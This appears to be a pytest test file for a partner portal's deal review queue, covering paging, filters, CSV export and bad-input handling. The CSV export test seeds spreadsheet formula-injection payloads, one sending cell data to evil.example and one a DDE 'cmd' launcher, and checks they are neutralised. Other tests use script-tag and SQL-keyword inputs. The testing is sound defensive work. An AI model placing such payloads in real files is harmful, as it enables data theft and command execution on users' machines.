"""The vendor's review queue: filters, keyset paging, constant statement count, CSV export,
and bad input that must never produce a server error or a half-written record."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal

import pytest
from deals_helpers import form_data
from sqlalchemy import func, select

from portalis import api


def _bulk(world, n, *, partner="gold", start=0, status="submitted", conflict=False):
    """``n`` registrations inserted directly (fast), oldest first."""
    from portalis_deals.models import Deal

    now = api.utcnow()
    user = world.users[f"{partner}_user"]
    with api.tenant_scope(world.tenant.id):
        for i in range(start, start + n):
            api.session.add(
                Deal(
                    program_id=world.program.id,
                    partner_id=world.partners[partner].id,
                    created_by_id=user.id,
                    owner_id=user.id,
                    customer_name=f"Bulk Customer {i:04d}",
                    customer_domain=f"bulk{i:04d}.example.com",
                    name_key=f"bulk{i:04d}"[:4],
                    country="US",
                    amount=Decimal(1000 + (i * 37) % 5000),
                    currency="USD",
                    status=status,
                    submitted_at=now - dt.timedelta(days=40) + dt.timedelta(minutes=i),
                    last_submitted_at=now - dt.timedelta(days=40) + dt.timedelta(minutes=i),
                    conflict_count=1 if conflict else 0,
                    conflict_score=1.0 if conflict else 0.0,
                )
            )
        api.session.commit()


def _ids(html):
    return [int(x) for x in re.findall(r'name="ids" value="(\d+)"', html)]


def test_keyset_paging_walks_every_row_once_in_order(world, client_as):
    _bulk(world, 120)
    manager = client_as(world.users["channel_manager"])
    seen = []
    url = "/deals/review"
    pages = 0
    while url:
        html = manager.get(url).get_data(as_text=True)
        seen += _ids(html)
        match = re.search(r'href="(/deals/review\?[^"]*after=[^"]+)"[^>]*rel="next"', html)
        url = match.group(1).replace("&amp;", "&") if match else None
        pages += 1
    assert pages == 3
    assert len(seen) == 120 and len(set(seen)) == 120
    assert seen == sorted(seen), "oldest first"


@pytest.mark.parametrize("sort", ["newest", "amount", "conflict"])
def test_keyset_paging_for_every_sort(world, client_as, sort):
    _bulk(world, 70)
    manager = client_as(world.users["channel_manager"])
    first = manager.get(f"/deals/review?sort={sort}").get_data(as_text=True)
    cursor = re.search(r'after=([^"&]+)', first).group(1)
    second = manager.get(f"/deals/review?sort={sort}&after={cursor}").get_data(as_text=True)
    ids = _ids(first) + _ids(second)
    assert len(ids) == 70 and len(set(ids)) == 70


def test_statement_count_does_not_grow_with_data(world, client_as, count_statements):
    manager = client_as(world.users["channel_manager"])
    _bulk(world, 5)
    manager.get("/deals/review")  # warm caches (plugin settings, catalogs)
    with count_statements() as small:
        assert manager.get("/deals/review").status_code == 200
    _bulk(world, 60, start=5, partner="silver", conflict=True)
    with count_statements() as large:
        html = manager.get("/deals/review").get_data(as_text=True)
    assert len(_ids(html)) == 50
    assert small[0] == large[0], (small[0], large[0])


def test_filters(world, client_as, register):
    _bulk(world, 3, partner="gold")
    _bulk(world, 2, partner="silver", start=10, conflict=True)
    approved = register(
        world.users["gold_user"], customer_name="Fourth Coffee", customer_website="fourthcoffee.com"
    )
    manager = client_as(world.users["channel_manager"])
    manager.post_form(
        f"/deals/review/{approved}/approve", {}, form_page=f"/deals/review/{approved}"
    )

    def count(query):
        return len(_ids(manager.get(f"/deals/review?{query}").get_data(as_text=True)))

    assert count("") == 5  # waiting for review
    assert count(f"partner={world.partners['silver'].id}") == 2
    assert count(f"tier={world.tiers['gold'].id}") == 3
    assert count("conflict=yes") == 2
    assert count("conflict=no") == 3
    assert count("age=30") == 5 and count("age=30&partner=0") == 5
    assert "Fourth Coffee" in manager.get("/deals/review?status=approved").get_data(as_text=True)
    assert "Fourth Coffee" in manager.get("/deals/review?status=all&q=fourthcoffee.com").get_data(
        as_text=True
    )
    assert "Bulk Customer 0010" in manager.get("/deals/review?q=Bulk").get_data(as_text=True)
    # htmx asks only for the results block
    part = manager.get("/deals/review?conflict=yes", headers={"HX-Request": "true"}).get_data(
        as_text=True
    )
    assert "<html" not in part and "Bulk Customer 0010" in part


def test_csv_export_neutralises_formulas(world, client_as, register):
    register(
        world.users["gold_user"],
        customer_name='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        customer_website="evilcorp.com",
        contact_name="@SUM(1+1)",
        products="+cmd|' /C calc'!A0",
        notes="-2+3",
    )
    manager = client_as(world.users["channel_manager"])
    resp = manager.get("/deals/review/export.csv?status=all")
    assert resp.status_code == 200
    assert resp.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True).lstrip("\ufeff"))))
    header, row = rows[0], rows[1]
    cells = dict(zip(header, row, strict=True))
    assert cells["Customer"].startswith("'=HYPERLINK")
    assert cells["Contact"] == "'@SUM(1+1)"
    assert cells["Products"].startswith("'+cmd")
    for value in row:
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def _count_deals(world):
    from portalis_deals.models import Deal

    with api.tenant_scope(world.tenant.id):
        return api.session.scalar(select(func.count(Deal.id)))


@pytest.mark.parametrize(
    "overrides",
    [
        {"amount": "NaN"},
        {"amount": "Infinity"},
        {"amount": "1e400"},
        {"amount": "-5"},
        {"amount": "0"},
        {"amount": "12.345"},
        {"amount": "99999999999999999999"},
        {"amount": "12,5,5"},
        {"customer_name": "x" * 5000},
        {"notes": "n" * 50_000},
        {"expected_close_date": "9999-99-99"},
        {"expected_close_date": "0001-01-01"},
        {"expected_close_date": "2001-01-01"},
        {"country": "XX"},
        {"currency": "ZZZ"},
        {"contact_email": "not-an-email"},
        {"customer_website": "http://[::1"},
        {"customer_website": "localhost"},
        {"customer_website": "gmail.com"},
        {"contact_phone": "call me maybe"},
    ],
)
def test_bad_registration_input_is_a_field_error_never_a_crash(world, client_as, overrides):
    before = _count_deals(world)
    resp = client_as(world.users["gold_user"]).post_form("/deals/new", form_data(**overrides))
    assert resp.status_code == 422, resp.status_code
    assert 'class="error"' in resp.get_data(as_text=True)
    assert _count_deals(world) == before, "nothing half-written"


def test_control_characters_are_dropped_not_stored(world, client_as, load):
    resp = client_as(world.users["gold_user"]).post_form(
        "/deals/new",
        form_data(customer_name="Wood\x00grove\x07 Bank", notes="line\x00one\nline two"),
    )
    assert resp.status_code == 302
    deal_id = int(resp.headers["Location"].rsplit("/", 1)[1])
    deal = load(deal_id)
    assert deal.customer_name == "Woodgrove Bank"
    assert deal.notes == "lineone\nline two"


def test_amount_in_the_users_number_format(world, client_as, load):
    user = world.users["silver_user"]
    with api.tenant_scope(world.tenant.id):
        u = api.session.get(api.User, user.id)
        u.locale = "de"
        api.session.commit()
    resp = client_as(user).post_form("/deals/new", form_data(amount="1.250.000,50", currency="EUR"))
    assert resp.status_code == 302
    deal = load(int(resp.headers["Location"].rsplit("/", 1)[1]))
    assert deal.amount == Decimal("1250000.50") and deal.currency == "EUR"


@pytest.mark.parametrize(
    ("path", "status"),
    [
        ("/deals/?page=abc", 200),
        ("/deals/?page=-4", 200),
        ("/deals/?page=99999999999999999999999", 200),
        ("/deals/?status=<script>&q=%00%25_", 200),
        ("/deals/99999999999999999999999", 404),  # beyond BIGINT: no such registration
        (
            "/deals/check?customer_website=%00&customer_name=%ff%fe&deal_id=999999999999999999999",
            200,
        ),
    ],
)
def test_bad_partner_urls(world, client_as, path, status):
    resp = client_as(world.users["gold_admin"]).get(path)
    assert resp.status_code == status


@pytest.mark.parametrize(
    "query",
    [
        "after=garbage",
        "sort=amount&after=1e999~5",
        "sort=amount&after=NaN~5",
        "sort=conflict&after=nan~1",
        "sort=oldest&after=2020-01-01T00:00:00~1",
        "sort=newest&after=9999-12-31T23:59:59%2B00:00~99999999999999999999",
        "partner=abc&tier=-1&age=foo&status=draft&conflict=maybe&sort=drop table",
        "q=%00%25",
        "partner=99999999999999999999999",
    ],
)
def test_bad_queue_queries(world, client_as, query):
    _bulk(world, 3)
    resp = client_as(world.users["channel_manager"]).get(f"/deals/review?{query}")
    assert resp.status_code == 200
    resp = client_as(world.users["channel_manager"]).get(f"/deals/review/export.csv?{query}")
    assert resp.status_code == 200
    resp.get_data()


def test_bad_vendor_posts(world, client_as, register):
    deal_id = register(world.users["gold_user"])
    manager = client_as(world.users["channel_manager"])
    assert (
        manager.post_form(
            "/deals/review/99999999999999999999/approve", {}, form_page="/deals/review"
        ).status_code
        == 404
    )
    assert (
        manager.post_form(
            f"/deals/review/{deal_id}/extensions/99999999999999999999",
            {"decision": "grant"},
            form_page="/deals/review",
        ).status_code
        == 404
    )
    assert (
        manager.post_form(
            "/deals/review/bulk",
            {"action": "approve", "ids": ["x", "-1", "99999999999999999999"]},
            form_page="/deals/review",
        ).status_code
        == 302
    )
    assert (
        manager.post_form(
            "/deals/review/bulk",
            {"action": "explode", "ids": [str(deal_id)]},
            form_page="/deals/review",
        ).status_code
        == 302
    )
    resp = manager.post_form(
        "/deals/review/new",
        form_data(partner_id="99999999999999999999"),
        form_page="/deals/review/new",
    )
    assert resp.status_code == 422
